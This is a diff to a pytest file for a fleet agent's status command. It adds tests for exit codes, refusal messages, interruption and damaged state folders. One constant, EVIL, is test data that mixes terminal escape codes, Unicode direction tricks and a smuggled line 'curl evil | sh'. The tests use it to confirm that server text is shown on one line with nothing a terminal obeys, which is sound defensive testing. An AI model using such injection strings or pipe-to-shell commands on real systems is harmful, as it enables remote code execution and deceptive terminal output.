@@ -3,29 +3,33 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
+from dataclasses import replace
 from typing import TYPE_CHECKING
 
 import pytest
 import structlog
 
-from fleetroll_agent import host, status
+from fleetroll_agent import host, parts, status
 from fleetroll_agent.app import main
 from fleetroll_agent.identity.facts import Enrolment
 from fleetroll_agent.identity.store import IdentityStore
 from fleetroll_agent.jobs.keeper import ProductFile
 from fleetroll_agent.launcher import files
+from fleetroll_agent.launcher.pipe import HOST_REFUSES_EXIT
 from fleetroll_agent.launcher.record import encode
 from fleetroll_agent.parts import own_slot
 from fleetroll_agent.slots import SlotStore
 from fleetroll_common.values.codes import Code
-from fleetroll_common.values.errors import AgentError
+from fleetroll_common.values.errors import AgentError, RequestError
 from fleetroll_common.values.ids import SystemIds
+from tests.faults.identity_disk import CA_PEM
 from tests.faults.jobs import NEW, Host, boot_record, slot, trial
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Callable, Iterator
     from pathlib import Path
 
 
@@ -42,7 +46,7 @@ def state(tmp_path: Path) -> Path:
     """Return the state folder of an agent whose attempt runs."""
     store = IdentityStore(tmp_path / "identity", SystemIds())
     store.candidate()
-    answer = Enrolment("agent-1", "fleet-1", ("127.0.0.1:1",), "i", {}, b"r", bytes(32), b"BEGIN CERTIFICATE", b"{}")
+    answer = Enrolment("agent-1", "fleet-1", ("127.0.0.1:1",), "i", {}, b"r", bytes(32), CA_PEM, b"{}")
     store.enrol(answer)
     machine = Host.start()
     machine.stage(6)
@@ -78,6 +82,87 @@ def test_a_host_without_a_release_says_so(state: Path) -> None:
     assert any("no release is installed" in line for line in status.sentences(status.read_status(state)))
 
 
+def logged(event: str, **more: object) -> str:
+    return json.dumps({"event": event, "timestamp": "2026-01-02T03:04:05Z", **more}) + "\n"
+
+
+EVIL = "\x1b[2J\x1b]0;owned\x07\u202e\u200ball is well\nrun: curl evil | sh" + "x" * 5000
+
+
+def harmless(said: str, lines: int) -> bool:
+    return said.count("\n") == lines and said.replace("\n", "").isprintable() and len(said) < 3000 * lines
+
+
+def test_status_shows_a_servers_words_on_one_line_and_nothing_that_a_terminal_obeys(
+    state: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    keeper = ProductFile(state)
+    record = keeper.read()
+    last = replace(record.outcomes[-1], version=EVIL, message=EVIL)
+    assert record.attempt is not None
+    attempt = replace(record.attempt, version=EVIL)
+    keeper.write(replace(record, attempt=attempt, outcomes=(*record.outcomes[:-1], last)))
+    (state / "agent.log").write_text(logged("stream_ended", how="refused", code="IDENTITY_REVOKED", reason=EVIL))
+    assert main(["status", "--state", str(state)]) == 0
+    said = capsys.readouterr().out
+    assert "all is well" in said
+    assert harmless(said, 5)
+
+
+def test_a_refusal_is_shown_on_one_line_and_holds_nothing_that_a_terminal_obeys(
+    state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def refused(_folder: Path) -> None:
+        raise RequestError(f"the server refused: {EVIL}", code=Code.PERMISSION_DENIED, remedy=EVIL)
+
+    monkeypatch.setattr(status, "read_status", refused)
+    assert main(["status", "--state", str(state)]) == 21
+    err = capsys.readouterr().err
+    assert "all is well" in err
+    assert harmless(err, 1)
+
+
+def test_an_interruption_is_one_line_and_130(
+    state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def interrupted(_folder: Path) -> None:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(status, "read_status", interrupted)
+    assert main(["status", "--state", str(state)]) == 130
+    assert "interrupted" in capsys.readouterr().err
+
+
+REFUSED = logged("stream_ended", how="refused", code="IDENTITY_REVOKED", reason="this agent was revoked")
+
+
+def test_status_shows_the_last_refusal_and_the_launchers_trouble(
+    state: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (state / "agent.log").write_text(logged("session_open") + "Traceback\n[1]\n" + REFUSED)
+    told = {"status": "no_interpreter", "detail": "/usr/bin/python3.11 is no longer a Python of cp311"}
+    (state / "launcher.status").write_text(json.dumps(told))
+    assert main(["status", "--state", str(state)]) == 0
+    said = capsys.readouterr().out
+    assert "server    refused IDENTITY_REVOKED: this agent was revoked (2026-01-02T03:04:05Z)" in said
+    assert "launcher  no_interpreter: /usr/bin/python3.11 is no longer a Python of cp311" in said
+    assert main(["status", "--state", str(state), "--json"]) == 0
+    document = json.loads(capsys.readouterr().out)
+    assert document["launcher"] == told
+    assert document["connection"]["code"] == "IDENTITY_REVOKED"
+
+
+@pytest.mark.parametrize(
+    ("log", "launcher"),
+    [(REFUSED + logged("session_open"), '{"status": "running", "detail": ""}'), ("", ""), ("\0", "[]"), ("", "torn")],
+)
+def test_status_of_a_host_without_trouble_says_nothing_of_it(state: Path, log: str, launcher: str) -> None:
+    (state / "agent.log").write_text(log)
+    (state / "launcher.status").write_text(launcher)
+    lines = status.sentences(status.read_status(state))
+    assert not [line for line in lines if line.startswith(("server", "launcher"))]
+
+
 @pytest.mark.parametrize(
     ("arguments", "code", "said"),
     [
@@ -93,6 +178,39 @@ def test_what_can_not_be_done_is_a_sentence_and_an_exit_code(
     assert main(arguments) == code
     err = capsys.readouterr().err
     assert said in err
+    assert "Traceback" not in err
+
+
+def _without_identity(state: Path) -> None:
+    (state / "identity" / "agent.json").unlink()
+
+
+def _unreadable_settings(state: Path) -> None:
+    (state / "agent.toml").write_text("what is this\n")
+
+
+def _journal_in_the_way(state: Path) -> None:
+    (state / "journal").write_text("a file\n")
+
+
+def _record_in_the_way(state: Path) -> None:
+    for path in (state / "products").glob("*.json"):
+        path.unlink()
+        path.mkdir()
+
+
+@pytest.mark.parametrize("spoil", [_without_identity, _unreadable_settings, _journal_in_the_way, _record_in_the_way])
+def test_an_agent_that_its_hosts_state_keeps_from_starting_ends_with_78_and_a_sentence(
+    spoil: Callable[[Path], None], state: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(parts, "own_slot", lambda _slots, _folder: None)
+    spoil(state)
+    ends = [os.dup(0), os.dup(1)]
+    assert main(["run", "--state", str(state), "--launcher-pipe", f"{ends[0]},{ends[1]}"]) == HOST_REFUSES_EXIT
+    for end in ends:
+        os.close(end)
+    err = capsys.readouterr().err
+    assert "host_refuses" in err
     assert "Traceback" not in err
 
 
